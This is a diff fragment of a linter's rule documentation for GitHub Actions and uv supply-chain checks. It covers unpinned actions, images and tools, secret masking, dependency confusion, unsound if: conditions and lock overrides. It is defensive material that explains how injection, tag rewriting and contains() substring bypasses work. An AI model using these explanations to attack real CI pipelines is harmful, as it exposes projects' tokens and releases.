script before it runs; a crafted value\n  executes as shell code with this job's token and secrets.\n  fix: Add env: to this step with the line PR_TITLE: ${{ github.event.pull_request.title }} and write\n  \"$PR_TITLE\" in place of the expression.\n```\n",
@@ -34951,12 +34975,16 @@ const RULE_DOCS = {
     "unpinned-git-source": "# unpinned-git-source\n\nDefault severity: **warning**.\n\nA git source names no rev or tag.\n\n## What it reports\n\nA `[tool.uv.sources]` git entry (root or member, single or in a list) with neither `rev` nor\n`tag`: it follows a `branch`, or the repository's default branch. Also a PEP 508 requirement\n`name @ git+https://…` without any `@ref`.\n\n## Why\n\nToday the lock pins the commit. The next `uv lock --upgrade` (or any re-lock that touches the\npackage) takes whatever the branch points at then: a commit nobody reviewed, pushed by anyone who\ncan push to that branch. A `rev` (a commit) or a `tag` makes a move an explicit change.\n\n## How to fix\n\nPin it to the commit the lock already uses (the message gives it):\n\n```toml\n[tool.uv.sources]\nonbranch = { git = \"https://github.com/example/onbranch.git\", rev = \"89abcdef0123456789abcdef0123456789abcdef\", subdirectory = \"pkg\" }\n```\n\nor to a tag: `tag = \"v1.2.0\"`. Then `uv lock`.\n\n## How to ignore\n\nA config `ignore:` entry (with `package:`, a reason and `until`), or\n`# lockgate: ignore[unpinned-git-source]` on the source's line or the line above.\n\n## Example\n\n```\npyproject.toml:21 warning unpinned-git-source: The git source of onbranch\n(https://github.com/example/onbranch.git) follows the branch \"main\", so the next\n`uv lock --upgrade` takes whatever commit the branch points at then, unreviewed. Today only the\nlock pins it, to 89abcdef0123456789abcdef0123456789abcdef.\n```\n",
     "unpinned-image": "# unpinned-image\n\nDefault severity: **error**.\n\nA container image is not pinned by digest.\n\nzizmor id: `unpinned-images` (its ignore comment `# zizmor: ignore[unpinned-images]` is honoured).\n\n## What it reports\n\nContainer images referenced without a full `@sha256:<64 hex>` digest in:\n\n- a step's `uses: docker://image` (workflows and composite actions),\n- a job's `container:` (a string) or `container.image`,\n- `services.<id>` (a string) or `services.<id>.image`,\n- a Docker action's `runs.image: docker://image` (`action.yml`),\n- the values of a matrix axis, when an image is exactly `${{ matrix.X }}`: each literal value of `X`\n  (its list and the `include:` entries that set it) is judged, and reported where it is written in\n  the matrix, since that is the text to pin. The message names the container or service it feeds,\n  and the finding's related location (SARIF `relatedLocations`) is that image line, where a\n  `# zizmor: ignore[unpinned-images]` comment is honoured as zizmor honours it.\n\nA tag (`python:3.12`), no tag (`node`, which means `latest`) and a short or malformed digest are all\nreported; the finding points at the image value. A job container or service whose image is only an\nexpression whose values are not in the file (`${{ inputs.image }}`, a matrix axis computed with\n`fromJSON`) may be unpinned: it is a **warning** of **low** confidence (zizmor's \"may be\nunpinned\"), so it never fails the default gate alone and `--min-confidence medium` leaves it out.\nNot reported: an empty `container:` (used to turn a container off in a matrix), an image whose\ndigest part is an expression (`python@${{ vars.DIGEST }}`), and a Docker action built from a local\n`Dockerfile`. An image that mixes text and an expression (`rockylinux:${{ matrix.version }}`)\nis reported: whatever the expression gives, there is no digest.\n\nzizmor's `unpinned-images` reports no tag and `latest` in its default persona and a tag without a\ndigest only when pedantic; lockgate reports all three in the regular persona, since only a digest\npins the content. Every other finding is high confidence ([confidence and personas](../confidence.md)).\n\n## Why\n\nA tag is mutable: the registry (or whoever can push to it) can serve different content under\n`python:3.12` tomorrow, and the job runs it with the job's token and secrets. A digest names exactly\none image manifest. Unlike actions, images are not covered by Dependabot's `github-actions`\necosystem unless you pin them: with a digest, Dependabot's `docker` ecosystem can update them.\n\n## How to fix\n\nKeep the tag for readability and add the digest:\n\n```yaml\n    container: python:3.12-slim@sha256:<digest>\n```\n\nGet the digest (of the multi-platform index) with:\n\n```sh\ndocker buildx imagetools inspect python:3.12-slim    # the \"Digest:\" line\n# or\ncrane digest python:3.12-slim\n```\n\n## How to ignore\n\nOn the image line or the line above it:\n\n```yaml\n    # lockgate: ignore[unpinned-image] throwaway test database\n    services:\n      db:\n        image: postgres:16\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: unpinned-image\n    path: .github/workflows/integration.yml\n    until: 2027-01-01\n    reason: service images pinned with the next test refresh\n```\n\n## Example\n\n```yaml\non: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    container: python:3.12\n    steps:\n      - run: python --version\n```\n\n```\nerror[unpinned-image] .github/workflows/ci.yml:7:16\n  The image python:3.12 (job test container) is referenced by a tag, not by @sha256 digest: the\n  registry can serve different content under the same name at any time.\n  fix: python:3.12@sha256:<digest>, with the digest from: docker buildx imagetools inspect python:3.12   (the \"Digest:\" line)\n```\n",
     "unpinned-requirement": "# unpinned-requirement\n\nDefault severity: **notice**.\n\nA direct dependency of an application is not pinned with `==` (never asked of what a published\npackage publishes).\n\n## What it reports\n\nA requirement without an `==` (or `===`) pin, in the lists the scope covers. `==1.*` is a range.\nWhich lists depend on what the project is, decided per `pyproject.toml` (root and workspace\nmembers) with uv's own rule: a project is a **published package** when `[tool.uv] package` says so,\nor, when it is not set, when it has a `[build-system]`; otherwise it is an **application**.\n\n| list | application | published package |\n|---|---|---|\n| `project.dependencies`, `project.optional-dependencies` | `direct`, `all` | never |\n| `[dependency-groups]`, `tool.uv.dev-dependencies` | `direct`, `all` | `all` only |\n| `[build-system] requires` | `all` only | `all` only |\n\nA published package is never asked to pin `project.dependencies` or its extras: they become the\nrequirements of everyone who installs it, and `starlette==0.47.2` there would keep its users from\nresolving it beside anything that needs another starlette. Libraries declare ranges on purpose;\ntheir lock (`uv.lock`) is what pins their own CI. Dependency groups are not published, so pinning\nthem binds only the repository; that is asked of packages only with `requirements.pin: all`.\n\nNot reported: requirements with a direct URL, packages with a git, path, URL or workspace source in\n`[tool.uv.sources]`, and the workspace's own members.\n\nThe scope is configurable:\n\n```yaml\n# .github/lockgate.yml\nrequirements:\n  pin: direct   # none | direct (default: applications) | all (also packages' groups, and [build-system] requires)\n```\n\n## Why\n\nIn an application nobody installs as a dependency, a range lets `uv lock --upgrade` or a bot move\nthe dependency in a change that only touches `uv.lock`, which reviewers tend to skim. An exact pin\nmakes each upgrade a visible edit of the dependency list.\n\n## How to fix\n\nReplace the requirement with the exact pin the message gives (the locked version, extras and\nmarker kept), or let uv write it:\n\n```sh\nuv add \"httpx==0.28.1\"\nuv add --group dev \"pytest==8.4.0\"\n```\n\nSet `add-bounds = \"exact\"` so `uv add` pins from now on (in an application).\n\nIf the project is in fact a library you publish, it is reported because it has no `[build-system]`\n(or sets `package = false`): add the build system it is published with, and the rule stops asking.\n\n## How to ignore\n\n`requirements.pin: none` in the config, `rules: { unpinned-requirement: off }`, a config\n`ignore:` entry (with `package:`, a reason and `until`), or\n`# lockgate: ignore[unpinned-requirement]` on the requirement's line or the line above.\n\n## Example\n\n```\npyproject.toml:7 notice unpinned-requirement: \"httpx>=0.28\" in project.dependencies is not pinned\nwith ==, so `uv lock --upgrade` or a bot can move it to any release the range allows. This project\nis an application (no [build-system], or tool.uv.package = false), so nobody installs it as a\ndependency: an exact pin makes each upgrade a visible change to this file.\n  fix: Replace it with \"httpx==0.28.1\" (0.28.1 is the locked version), or run: uv add httpx==0.28.1\n```\n",
+    "unpinned-tool": "# unpinned-tool\n\nDefault severity: **warning**.\n\nA setup action installs the latest release of its tool instead of a pinned version.\n\nzizmor id: `unpinned-tools` (its ignore comment is honoured).\n\n## What it reports\n\naquasecurity/setup-trivy and 1password/load-secrets-action without `version:` or with `version: latest` (an expression: low confidence).\n\n## Why\n\nThe action then downloads whatever release is newest when the job runs; a compromised release runs in the job at once.\n\n## How to fix\n\nSet `with: version:` to an exact release.\n\n## How to ignore\n\nOn the reported line or the line above it: `# lockgate: ignore[unpinned-tool] <reason>`, or an `ignore:`\nentry with `rule: unpinned-tool` in `.github/lockgate.yml`. zizmor's `# zizmor: ignore[unpinned-tools]` is honoured.\n\n## Example\n\n```yaml\nsteps:\n  - uses: aquasecurity/setup-trivy@v0.2.3\n```\n",
     "unpinned-uses": "# unpinned-uses\n\nDefault severity: **error**.\n\nAn action or reusable workflow is not pinned to a full commit SHA.\n\n## What it reports\n\nEvery `uses:` of a step (in workflows and composite actions) and of a job that calls a reusable\nworkflow (`owner/repo/.github/workflows/x.yml@ref`) whose ref is not exactly 40 hex digits: tags\n(`@v4`, `@v4.2.2`), branches (`@main`, `@release/v1`), short SHAs (`@3b9817b`), and values that are\nnot a valid `owner/repo@ref` at all. The finding points at the line and column of the `uses:` value.\n\nNever reported: local actions and workflows (`./path`, GitHub's `$/path`), and `docker://` images,\nwhich are [unpinned-image](unpinned-image.md)'s business. No owner is exempt by default, not even\n`actions/*`: `workflows.allow-ref-pin` in `.github/lockgate.yml` lists the owners or repositories\nwhose **tags** you trust (`actions/*`, `my-org/*`, `owner/repo`, `owner/repo/sub/path`, `*`; owner\nand repo are compared case-insensitively). A branch is never accepted that way: online, lockgate\nknows whether the ref is a branch; offline, `main`, `master`, `develop`, `dev`, `trunk`, `head`,\n`latest`, `nightly`, `next`, `canary` and `edge` count as branches.\n\nAliased steps (`- *checkout`) are checked like written ones and reported at the anchored text.\n\n## Why\n\nA tag or a branch is a pointer the action's owner (or whoever takes over their account, or a\ncompromised release pipeline) can move at any time; the next run of your workflow then executes the\nnew code with your `GITHUB_TOKEN` and secrets. This is how the tj-actions/changed-files compromise\n(March 2025) reached thousands of repositories: every tag was rewritten to a malicious commit. Only\na full commit SHA names immutable code.\n\n## How to fix\n\nReplace the ref with the commit it points at, and keep the version in a comment so Dependabot and\nRenovate can still update it:\n\n```yaml\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n```\n\nOnline (the default when a token is available), the finding's `fix` is that exact line: lockgate\nresolved the tag through the GitHub API and names the most specific tag at that commit. Offline,\nget the SHA with:\n\n```sh\ngh api repos/actions/checkout/commits/v4 --jq .sha\n# or\ngit ls-remote https://github.com/actions/checkout v4\n```\n\n(`git ls-remote` shows an annotated tag's object; the commit is on the `^{}` line.)\nTools such as `pinact run`, `ratchet pin` or `frizbee actions` rewrite every `uses:` for you.\n\nTo trust an owner's tags instead:\n\n```yaml\n# .github/lockgate.yml\nworkflows:\n  allow-ref-pin: [actions/*, my-org/*]\n```\n\n## How to ignore\n\nOn the `uses:` line or the line above it:\n\n```yaml\n      # lockgate: ignore[unpinned-uses] internal action, tag protected by a ruleset\n      - uses: my-org/deploy-action@v3\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: unpinned-uses\n    path: .github/workflows/legacy.yml\n    until: 2027-01-01\n    reason: vendor action, pinned in Q1\n```\n\n## Example\n\n```yaml\non: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n```\n\n```\nerror[unpinned-uses] .github/workflows/ci.yml:8:15\n  The action actions/checkout is pinned to v4, not a full commit SHA: whoever controls\n  actions/checkout can change the code this workflow runs.\n  fix: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n```\n",
     "unredacted-secret": "# unredacted-secret\n\nDefault severity: **warning**.\n\nA secret is decoded with `fromJSON()`, so the values taken out of it escape log masking.\n\nzizmor id: `unredacted-secrets` (its ignore comment `# zizmor: ignore[unredacted-secrets]` is\nhonoured).\n\n## What it reports\n\nEvery `${{ }}` in a workflow or composite action that calls `fromJSON()` on a secret:\n`fromJSON(secrets.CREDS).password`, `fromJSON(secrets['CONFIG'])`, `fromjson(SECRETS.X)` (functions\nand contexts are case-insensitive). One finding an expression. `fromJSON()` of anything else (a step\noutput, `vars`) and `toJSON(secrets.X)` are not reported.\n\n## Why\n\nGitHub hides secrets in logs by replacing the exact text of each registered secret. A value decoded\nfrom a JSON secret (a field, or the whole secret unquoted) is different text, so it is not masked: a\nstep that echoes it, a tool that logs its arguments or an error message prints it in clear, in logs\nthat everyone with read access to the repository can see.\n\n## How to fix\n\nStore each value the workflow needs as a secret of its own and use it directly:\n\n```yaml\n        with:\n          username: ${{ secrets.REGISTRY_USER }}\n          password: ${{ secrets.REGISTRY_PASSWORD }}\n```\n\n## How to ignore\n\n`# lockgate: ignore[unredacted-secret]` on the line of the expression or on the line above it, or a\nconfig entry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: unredacted-secret\n    path: .github/workflows/release.yml\n    until: 2027-01-31\n    reason: the field is masked with ::add-mask:: before use\n```\n\n## Example\n\n```yaml\n      - uses: docker/login-action@<sha>\n        with:\n          password: ${{ fromJSON(secrets.REGISTRY).password }}\n```\n\n```\nwarning[unredacted-secret] .github/workflows/release.yml:3:21\n  ${{ fromJSON(secrets.REGISTRY).password }} in jobs.release.steps[0].with.password decodes\n  secrets.REGISTRY as JSON; GitHub masks a secret in logs only by its exact text, so the decoded value\n  and any field taken from it are printed in clear wherever they are echoed.\n  fix: Store each value the workflow needs as a secret of its own and use it directly\n  (`${{ secrets.DB_PASSWORD }}`), instead of one JSON secret taken apart with fromJSON().\n```\n",
     "unsafe-index-strategy": "# unsafe-index-strategy\n\nDefault severity: **error** (`unsafe-best-match`); **warning** (`unsafe-first-match`, `unsafe-any-match`).\n\nindex-strategy lets a package come from any index (dependency confusion).\n\n## What it reports\n\n`index-strategy` set to an unsafe value in the project's settings (root `uv.toml` or\n`[tool.uv]`), or in their `pip` section (`[tool.uv.pip]`, used by `uv pip` commands).\n\n- `unsafe-best-match` (error): uv takes each package from whichever index has the best version.\n- `unsafe-first-match` / its alias `unsafe-any-match` (warning): uv searches every index in order,\n  so a name missing from the first index is taken from the next.\n\n## Why\n\nWith more than one index (a private one plus PyPI), anyone can publish your internal package name\non PyPI. Under `unsafe-best-match` a higher version there wins; under `unsafe-first-match` it wins\nwhenever your index has no matching version. This is dependency confusion. The default,\n`first-index`, takes a name only from the first index that has it.\n\n## How to fix\n\n```toml\n[tool.uv]\nindex-strategy = \"first-index\"   # the default: or delete the line\n\n[[tool.uv.index]]\nname = \"internal\"\nurl = \"https://pkgs.example.com/simple\"\nexplicit = true                  # used only for packages pinned to it\n\n[tool.uv.sources]\ninternal-lib = { index = \"internal\" }\n```\n\n## How to ignore\n\nA config `ignore:` entry with a reason and `until`, or\n`# lockgate: ignore[unsafe-index-strategy]` on the `index-strategy` line or the line above.\n\n## Example\n\n```\npyproject.toml:12 error unsafe-index-strategy: index-strategy = \"unsafe-best-match\" lets uv take\neach package from whichever index has the best version: anyone who publishes your internal package\nname on PyPI with a higher version wins (dependency confusion).\n```\n",
     "unsound-condition": "# unsound-condition\n\nDefault severity: **error**.\n\nAn `if:` is always true: text or a newline outside its `${{ }}` makes it a non-empty string.\n\nzizmor id: `unsound-condition` (its ignore comment `# zizmor: ignore[unsound-condition]` is honoured).\n\n## What it reports\n\nA job's or step's `if:` (workflow jobs, reusable-workflow calls, composite actions' steps) that\ncontains `${{ }}` but is not exactly one `${{ }}`:\n\n- a block scalar `if: |` or `if: >` (also `|+`, `>+`) around `${{ … }}`: YAML keeps the final\n  newline, so the value is `${{ … }}` followed by a newline (zizmor's case);\n- text outside the braces: `if: ${{ a }} && ${{ b }}`, `if: \"Deploy ${{ x }}\"`, `if: \"${{ x }} \"`.\n\n`if: |-` and `if: >-` (which drop the final newline), a single `${{ }}`, and a bare condition written\nover several lines (`if: |` without `${{ }}`) are sound and not reported. The finding points at the\n`if:` value.\n\n## Why\n\nGitHub evaluates an `if:` as an expression when it is bare or exactly one `${{ }}`. Anything else is\na string template: the expressions are evaluated and pasted into the text, and the result (`false\\n`,\n`true && false`) is a non-empty string, which is true. The job or step then runs on every event, for\nevery actor and branch, whatever the condition says: a deploy meant for `main`, a step meant to be\nskipped on forks.\n\n## How to fix\n\nDrop the final newline, or write the condition without braces:\n\n```yaml\n    if: |-\n      ${{ github.ref == 'refs/heads/main' }}\n    # or\n    if: github.ref == 'refs/heads/main'\n```\n\nFor several `${{ }}` joined by operators, the fix gives the one expression they meant.\n\n## How to ignore\n\n`# lockgate: ignore[unsound-condition]` on the `if:` line or on the line above it, or a config entry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: unsound-condition\n    path: .github/workflows/ci.yml\n    until: 2027-01-31\n    reason: the step must always run\n```\n\n## Example\n\n```yaml\njobs:\n  deploy:\n    if: |\n      ${{ github.ref == 'refs/heads/main' }}\n```\n\n```\nerror[unsound-condition] .github/workflows/deploy.yml:3:9\n  The if: of job deploy is always true: the if: | block keeps its final newline, so GitHub reads\n  \"${{ … }}\\n\" as a string template whose value (the result followed by a newline) is never empty,\n  and a non-empty string is true. The job runs whatever the condition says.\n  fix: Write if: |- (which drops the final newline), or put the condition on the if: line itself\n  without ${{ }}.\n```\n",
     "unsound-contains": "# unsound-contains\n\nDefault severity: **error** when a user shapes the context; **warning** for `env` and `inputs`;\n**notice** otherwise.\n\n`contains()` tests a context against a string literal: any substring of the literal passes.\n\nzizmor id: `unsound-contains` (its ignore comment `# zizmor: ignore[unsound-contains]` is honoured).\n\n## What it reports\n\nA job's or step's `if:` (in workflows, and in composite actions' steps) with\n`contains('<string literal>', <context>)`, such as\n`contains('refs/heads/main refs/heads/develop', github.ref)`, anywhere in the condition (negated or\nnot). The level follows zizmor's grading, all with high confidence:\n\n- **error** for a context a user chooses the value of: `github.ref`, `github.ref_name`,\n  `github.head_ref`, `github.base_ref`, `github.sha`, `github.actor`, `github.triggering_actor`;\n- **warning** for `env.*` and `inputs.*`, which a caller or an earlier step may set (zizmor grades\n  these High as well; lockgate cannot tell whether the value is fixed, so it does not fail the check);\n- **notice** for any other context (`github.event_name`): not exploitable, but not the test it looks\n  like.\n\n`contains(fromJSON('[\"a\", \"b\"]'), github.ref)`, `contains(github.event.head_commit.message, 'x')`\nand `contains()` outside an `if:` are not reported.\n\n## Why\n\nOn a string, `contains()` is a substring test. `contains('refs/heads/main refs/heads/develop',\ngithub.ref)` is true for `refs/heads/main`, but also for a branch named `m`, `dev` or `main\nrefs/heads/develop`: whoever can push a branch or a tag, or name the head branch of a pull request\nfrom a fork, passes a check meant to allow only `main` and `develop`, and reaches the deployment or\nthe secrets behind it.\n\n## How to fix\n\nTest membership in a list, or compare whole values:\n\n```yaml\n    if: contains(fromJSON('[\"refs/heads/main\", \"refs/heads/develop\"]'), github.ref)\n    # or\n    if: github.ref == 'refs/heads/main' || github.ref == 'refs/heads/develop'\n```\n\nThe fix of each finding gives the list built from the literal.\n\n## How to ignore\n\n`# lockgate: ignore[unsound-contains]` on the `if:` line or on the line above it, or a config entry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: unsound-contains\n    path: .github/workflows/ci.yml\n    until: 2027-01-31\n    reason: event names only\n```\n\n## Example\n\n```yaml\njobs:\n  deploy:\n    if: contains('refs/heads/main refs/heads/develop', github.ref)\n```\n\n```\nerror[unsound-contains] .github/workflows/deploy.yml:3:9\n  The if: of job deploy tests contains('refs/heads/main refs/heads/develop', github.ref): contains()\n  on a string is a substring test, so any value that is part of 'refs/heads/main refs/heads/develop'\n  passes, not only the whole entries; whoever can choose github.ref (by naming a branch or tag, or\n  acting as another user) can make it pass with a piece of that text.\n  fix: Test membership in a list instead: contains(fromJSON('[\"refs/heads/main\",\"refs/heads/develop\"]'),\n  github.ref) (or compare whole values with ==).\n```\n",
     "url-source-unhashed": "# url-source-unhashed\n\nDefault severity: **warning**.\n\nA direct URL artifact has no hash.\n\n## What it reports\n\nA package locked from a direct URL (`source = { url = \"…\" }`, from a `[tool.uv.sources]` URL\nentry or a `name @ https://…` requirement) whose archive in `uv.lock` has no `hash`, or that\nlocks no archive at all. The message names where the project declares the URL.\n\n## Why\n\nA URL can serve different bytes tomorrow. The hash is what ties the lock to the archive that was\nreviewed. uv writes one for every URL source and refuses a lock without it, so an unhashed entry\nwas not written by uv, and other installers reading it would take whatever the URL serves.\n\n## How to fix\n\n```sh\nuv lock --refresh-package urldep\n```\n\nand check that the recorded sha256 is the one of the archive you reviewed.\n\n## How to ignore\n\nA config `ignore:` entry (with `package:`, a reason and `until`), or\n`# lockgate: ignore[url-source-unhashed]` on the line above the entry in `uv.lock`.\n\n## Example\n\n```\nuv.lock:23 warning url-source-unhashed: urldep 2.0.0 comes from a direct URL\n(https://example.com/dist/urldep-2.0.0-py3-none-any.whl), declared at pyproject.toml:19, and locks\nan archive without a hash: whatever bytes that URL serves tomorrow get installed.\n```\n",
+    "use-trusted-publishing": "# use-trusted-publishing\n\nDefault severity: **notice**.\n\nA release is published with a long-lived token where the registry offers Trusted Publishing.\n\nzizmor id: `use-trusted-publishing` (its ignore comment is honoured).\n\n## What it reports\n\npypa/gh-action-pypi-publish with `password:` (to PyPI or TestPyPI), katyo/publish-crates with `registry-token:`, JS-DevTools/npm-publish with `token:`, and `uv publish`, `twine upload`, `poetry publish`, `hatch publish`, `pdm publish`, `cargo publish`, `npm`/`pnpm`/`yarn npm publish`, `gem push`, `dotnet nuget push` given a token as an option or in their environment (`UV_PUBLISH_TOKEN`, `TWINE_PASSWORD`, `CARGO_REGISTRY_TOKEN`, `NODE_AUTH_TOKEN`, `GEM_HOST_API_KEY`, …). A publish to another registry (a private index, GitHub Packages) is not reported.\n\n## Why\n\nA long-lived publishing token in the secrets can leak and be used from anywhere; Trusted Publishing mints a short-lived identity per run.\n\n## How to fix\n\nRegister the workflow as a trusted publisher, give the job `permissions: id-token: write`, and drop the token.\n\n## How to ignore\n\nOn the reported line or the line above it: `# lockgate: ignore[use-trusted-publishing] <reason>`, or an `ignore:`\nentry with `rule: use-trusted-publishing` in `.github/lockgate.yml`. zizmor's `# zizmor: ignore[use-trusted-publishing]` is honoured.\n\n## Example\n\n```yaml\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - run: uv publish\n        env:\n          UV_PUBLISH_TOKEN: ${{ secrets.PYPI_TOKEN }}\n```\n",
+    "uv-cache-in-publish": "# uv-cache-in-publish\n\nDefault severity: **warning**.\n\nA job that publishes a package restores setup-uv's cache.\n\n## What it reports\n\nAn `astral-sh/setup-uv` step in a publishing job (as for `setup-uv-unpinned`) whose GitHub Actions\ncache is on for some event the workflow runs on, read with setup-uv's defaults by major version:\nv1 to v4 default to off; v5 to v9 default to `auto`, on for every event on GitHub-hosted runners;\nfrom v10 on `auto` is off for `release`, tag pushes, `pull_request_target` and `workflow_run` and on\nfor the rest (`workflow_dispatch`, branch pushes, `schedule`). `enable-cache: true` is on everywhere;\n`enable-cache: false`, `restore-cache: false` and self-hosted runners (for `auto`) are off.\nConfidence is medium (low when the action's major version cannot be read).\n\nRelation to `cache-poisoning` (zizmor's audit of that name): both rules read the same facts. The\nsetup-uv steps that rule reports (a workflow on release events, tag pushes or pushes to a release\nbranch, or a job with a publishing action such as `pypa/gh-action-pypi-publish`, with the cache on\nfor one of the workflow's events) are left to it, so one line is never reported twice with the same\nadvice. This rule reports what it misses: jobs that publish with `uv publish` / `twine upload` in\n`run:`, and composite actions. `cache-python: true` (Python interpreters restored from the cache) is reported\nin every case, with its own fix.\n\n## Why\n\nGitHub's cache is shared by every run on a branch (and the default branch's cache by every branch).\nA run that executed untrusted code can save a cache entry the release job then restores: wheels,\nbuilt packages, or with `cache-python` the interpreter itself, all of which go into the release.\n\n## How to fix\n\n```yaml\n      - uses: astral-sh/setup-uv@<sha> # v7.1.0\n        with:\n          enable-cache: false\n```\n\n## How to ignore\n\n`# lockgate: ignore[uv-cache-in-publish]` on the line or the line above, or a config `ignore:`\nentry with `rule: uv-cache-in-publish`.\n\n## Example\n\n```yaml\non: workflow_dispatch\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: astral-sh/setup-uv@v7\n      - run: uv build && uv publish\n```\n\n```\nwarning[uv-cache-in-publish] .github/workflows/publish.yml:6\n  This publishing job restores setup-uv's cache (the default enable-cache: auto of setup-uv v7, on for workflow_dispatch runs) …\n```\n",
+    "uv-lock-overridden": "# uv-lock-overridden\n\nDefault severity: **warning**.\n\nA workflow sets UV_LOCKED or UV_FROZEN, or runs uv sync --locked, and then undoes the lock.\n\n## What it reports\n\n- A `uv sync`, `uv run`, `uv export` or `uv lock` for which `UV_LOCKED` / `UV_FROZEN` is set true\n  by the workflow's or job's `env:` or an earlier step's `$GITHUB_ENV`, and then set false (`0`,\n  `false`, `no`, `off`, uv's boolish values) or unset nearer to the command: the step's `env:`,\n  `UV_LOCKED=0 uv sync`, `export UV_FROZEN=0`, `unset UV_LOCKED`, `env -u UV_LOCKED`. uv-unlocked\n  counts the wider setting as the lock and stays silent, so each command is reported once.\n- A command that rewrites uv.lock (`uv lock` without `--check`, `uv lock --upgrade`, `uv add`,\n  `uv remove`) before a locked install in the same job (`uv sync --locked`, `--frozen`, or under\n  `UV_LOCKED` / `UV_FROZEN`): the check then passes against the lock the job just wrote. A plain\n  `uv lock` has medium confidence (it only changes a stale lock). A job that then commits or opens\n  a pull request (`git commit`, `git push`, `gh pr`, create-pull-request actions) is an upgrade job\n  and is not reported.\n\nuv has no `--no-locked` or `--no-frozen`; `--upgrade` together with `--locked` is an error uv\nreports itself, and `uv sync --upgrade` without a lock is `uv-unlocked`'s finding.\n\n## Why\n\n`--locked` and `UV_LOCKED` are how a workflow says \"install exactly what was reviewed\". An override\nfurther down, or a re-lock right before the check, keeps the appearance and drops the guarantee.\n\n## How to fix\n\nDrop the override or the re-lock; upgrade in a reviewed pull request, and use `uv lock --check`\nwhere the job only needs to know the lock is current.\n\n## How to ignore\n\n`# lockgate: ignore[uv-lock-overridden]` on the command's line or the line above, or a config\n`ignore:` entry with `rule: uv-lock-overridden`.\n\n## Example\n\n```yaml\nenv:\n  UV_LOCKED: \"1\"\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: uv sync\n        env:\n          UV_LOCKED: \"0\"\n```\n\n```\nwarning[uv-lock-overridden] .github/workflows/ci.yml:7\n  `uv sync` runs without the lock the workflow asks for: the workflow's env sets UV_LOCKED=1 (line 2), but the step's env sets UV_LOCKED=0 (line 10) …\n```\n",
     "uv-unlocked": "# uv-unlocked\n\nDefault severity: **warning**.\n\nA workflow runs uv without --locked or --frozen.\n\n## What it reports\n\nIn `run:` scripts (workflows and composite actions; bash, sh, pwsh and the runner's default shell),\neach `uv sync`, `uv run` and `uv export` without `--locked` or `--frozen`, unless `UV_LOCKED` or\n`UV_FROZEN` is set truthy (`1`, `true`, `yes`, `on`) for it: on the command (`UV_FROZEN=1 uv sync`,\n`env UV_LOCKED=1 …`), by `export` earlier in the script, in the step's, job's or workflow's `env:`,\nor written to `$GITHUB_ENV` by an earlier step of the job. An `env:` value that is an expression\ncounts as set. The finding points at the line of the command inside the `run:` block (the first\nline of a command continued with `\\`).\n\nIn a composite action, the `env:` of the workflows that call it is not visible, so a `uv sync` there is\nreported unless the action itself says `--locked` or sets the variable.\n\nFound through `sudo`, `env`, `time`, `timeout`, `bash -c '…'`, `$( … )`, `if …; then`, `&&`, `;`,\npipes and folded (`>`) blocks; here-document bodies, comments and steps with `shell: python` are not\ncommands and are skipped.\n\nNot reported:\n\n- `uv run --script`, `uv run --no-project` and `uv run --gui-script`: a standalone script, not the\n  project. `uv run --with pkg …` still runs in the project and is reported.\n- `uv run --no-sync`: it does not touch the environment and implies `--frozen`.\n- Options that come from an expression (`uv sync ${{ matrix.flags }}`): they may carry `--frozen`.\n- `--locked` after the command of `uv run` belongs to that command (`uv run pytest --locked`), so it\n  does not count.\n- `uv pip sync`: uv has no `--locked` or `--frozen` for it; a requirements file without hashes is\n  [pip-unhashed](pip-unhashed.md)'s business. `uv lock` is not reported (`uv lock --check` is the\n  CI form).\n\n## Why\n\nWithout `--locked`, `uv sync` and `uv run` re-resolve whenever `pyproject.toml` and `uv.lock`\ndisagree, and install whatever the index serves at that moment, then rewrite `uv.lock` in the\nrunner. CI then tests (and may publish) something other than what was reviewed, and a freshly\npublished malicious release can get in without any pull request. `--locked` fails instead when the\nlock is stale; `--frozen` installs the lock as is.\n\n## How to fix\n\n```yaml\n      - run: uv sync --locked --all-extras\n      - run: uv run --locked pytest\n```\n\nor once for the whole workflow:\n\n```yaml\nenv:\n  UV_LOCKED: \"1\"\n```\n\nFor a PEP 723 script, say so: `uv run --script scripts/release.py` (lock it with\n`uv lock --script scripts/release.py`). Upgrades belong in a reviewed pull request\n(`uv lock --upgrade`), not in CI's `uv sync --upgrade`.\n\n## How to ignore\n\nOn the command's line or the line above it (inside the `run:` block the comment is a shell comment,\nwhich lockgate reads too):\n\n```yaml\n      - run: |\n          # lockgate: ignore[uv-unlocked] tests the lowest resolution on purpose\n          uv sync --resolution lowest-direct\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: uv-unlocked\n    path: .github/workflows/nightly.yml\n    until: 2027-01-01\n    reason: nightly job tests the newest dependencies on purpose\n```\n\n## Example\n\n```yaml\non: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          uv sync --all-extras\n          uv run pytest\n```\n\n```\nwarning[uv-unlocked] .github/workflows/ci.yml:9\n  `uv sync --all-extras` runs without --locked or --frozen, so uv may re-resolve and rewrite uv.lock\n  in CI instead of installing exactly what was reviewed.\n  fix: uv sync --locked --all-extras; or set UV_LOCKED: \"1\" in the workflow's env\n```\n",
